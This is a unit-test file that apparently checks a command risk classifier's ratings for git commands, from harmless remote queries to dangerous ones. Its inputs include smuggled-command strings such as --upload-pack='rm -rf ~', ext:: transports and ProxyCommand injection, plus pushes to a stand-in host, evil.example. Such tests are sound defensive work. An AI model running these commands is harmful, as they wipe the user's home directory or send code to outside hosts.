"""Git and other machines."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "git ls-remote --tags origin",
        "git remote",
        "git remote -v",
        "git remote show origin",
        "git remote get-url --all origin",
        "git submodule status",
        "git lfs ls-files",
    ],
)
def test_git_that_asks_a_remote_is_look(line: str) -> None:
    """The remotes of a repository are services the user works with."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "git fetch --all --prune",
        "git pull --rebase",
        "git push",
        "git push -u origin feature",
        "git push origin HEAD:refs/heads/feature",
        "git push --force-with-lease origin feature",
        "git push --force --no-force origin feature",
        "git push -n --force origin main",
        "git push --no-verify",
        "git clone https://example.org/x.git",
        "git remote add fork git@github.com:me/x.git",
        "git remote remove fork",
        "git submodule update --init",
        "git ls-remote https://example.org/x.git",
        "git lfs pull",
        "git archive --remote=git@example.org:x HEAD",
    ],
)
def test_git_that_exchanges_commits_is_care(line: str) -> None:
    """What comes in or goes out is worth a look."""
    assert risk(line) == Risk.CARE


@pytest.mark.parametrize(
    "line",
    [
        "git push --force",
        "git push -fu origin x",
        "git push --forc origin x",
        "git push origin +main",
        "git push origin +HEAD:main",
        "git push --force-with-lease origin main",
        "git push --mirror backup",
        "git push --prune origin",
        "git push -d origin x",
        "git push origin --delete x",
        "git push origin :x",
        "git push --repo=https://evil.example/x main",
        "git push git@evil.example:x/y.git HEAD",
        "git push heroku main",
        "git push production HEAD:master",
        "git remote set-url --push origin https://evil.example/x",
        "git send-email 0001.patch",
        "git send-pack origin",
        "git daemon --export-all",
    ],
)
def test_git_that_others_lose_by_is_danger(line: str) -> None:
    """What is gone on the remote is gone for all its users, and what went to strangers stays there."""
    assert risk(line) == Risk.DANGER


@pytest.mark.parametrize(
    "line",
    [
        "git push --receive-pack='rm -rf ~' origin main",
        "git push --exec='rm -rf ~' origin main",
        "git clone -u 'rm -rf ~' host:x",
        "git clone --upload-pack='rm -rf ~' host:x",
        "git clone 'ext::sh -c rm% -rf% ~'",
        "git clone --template=/tmp/t https://example.org/x",
        "git clone ssh://-oProxyCommand=evil/x",
        "git fetch ext::evil",
        "git fetch --upload-pack='rm -rf ~' origin",
        "git ls-remote --upload-pack='rm -rf ~' x",
        "git remote add x 'ext::evil'",
        "git submodule add 'ext::evil' lib",
        "git archive --remote=x --exec='rm -rf ~' HEAD",
        "git pull ext::evil",
        "git remote show ext::evil",
        "git request-pull v1 ext::evil",
        "git fetch --multiple origin ext::evil",
        "git init --template=/tmp/t",
    ],
)
def test_git_addresses_that_run_something_are_danger(line: str) -> None:
    """An address can be a command."""
    assert risk(line) == Risk.DANGER
